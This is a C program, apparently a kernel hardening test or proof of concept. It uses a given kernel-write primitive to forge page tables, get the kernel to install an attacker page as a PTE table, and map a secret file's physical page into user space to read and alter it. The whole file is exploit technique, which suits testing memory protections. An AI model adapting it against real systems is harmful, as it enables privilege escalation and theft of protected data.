// SPDX-License-Identifier: GPL-2.0-only
/*
 * Have the attacker's own mm_struct point to a forged hierarchy in which a PMD
 * table of the real one has the place of a PTE table. The CPU never uses it,
 * but a walk by the kernel installs a page of the attacker where it takes that
 * for a page, and the CPU for a table.
 */
#define _GNU_SOURCE
#include <stddef.h>
#include <sys/mman.h>

#include "common.h"
#include "upper.h"

/* Have the kernel look for @page in the forged hierarchy meanwhile. */
static void advise_forged(const struct kpkeys_vuln_mm *mm, u64 root, char *page,
			  int advice, const char *what)
{
	int err;

	vuln_write(mm->addr, root);
	err = madvise(page, page_size(), advice);
	vuln_write(mm->addr, mm->pgd);
	if (err)
		die_errno(what);
}

int main(int argc, char **argv)
{
	const struct kpkeys_vuln_info *info = vuln_info();
	u64 secret = vuln_file_phys(argc > 1 ? argv[1] : NULL);
	u64 span = 1UL << info->shift[KPKEYS_VULN_PMD], index;
	char *target = forged_target(KPKEYS_VULN_PMD);
	size_t size = page_size(), entries = size / sizeof(u64);
	char *before = map_pages(target - size, size);
	char *after = map_pages(target + span, size);
	struct kpkeys_vuln_entry parent, entry;
	u64 root, forged, linear, table, slot;
	struct kpkeys_vuln_mm mm;
	char *walked;

	/* The PMD table has to be there, and the entry to be empty. */
	*before = 1;
	*after = 1;
	parent = vuln_entry(KPKEYS_VULN_SELF, target, KPKEYS_VULN_PUD);
	entry = vuln_entry(KPKEYS_VULN_SELF, target, KPKEYS_VULN_PMD);
	if (entry.value & ~info->sync)
		die("the entry is in use");

	/* In an entry of the topmost table that nothing else uses. */
	walked = forged_target(KPKEYS_VULN_PGD) +
		 (1UL << info->shift[KPKEYS_VULN_PGD]);
	index = ((uintptr_t)target >> info->shift[KPKEYS_VULN_PMD]) % entries;
	walked = map_pages(walked + index * size, size);
	mm = vuln_mm(before);
	linear = mm.linear - phys_of(before);

	forged = forge_tables_from(KPKEYS_VULN_PMD, KPKEYS_VULN_PGD, walked,
				   parent.value) | info->table;
	root = forge_root(&mm, walked, forged);
	advise_forged(&mm, root, walked, MADV_POPULATE_WRITE, "populating");

	entry = vuln_entry(KPKEYS_VULN_SELF, target, KPKEYS_VULN_PMD);
	table = entry.value & info->addr;
	if (!table)
		die("no page was installed");
	slot = ((uintptr_t)target >> info->shift[KPKEYS_VULN_PTE]) % entries;
	slot = linear + table + slot * sizeof(u64);
	vuln_write(slot, secret | info->pte_user);
	sync_between(before, after);
	steal_and_alter(target);

	vuln_write(slot, 0);
	advise_forged(&mm, root, walked, MADV_DONTNEED, "taking the page away");
	sync_between(before, after);
	return 0;
}
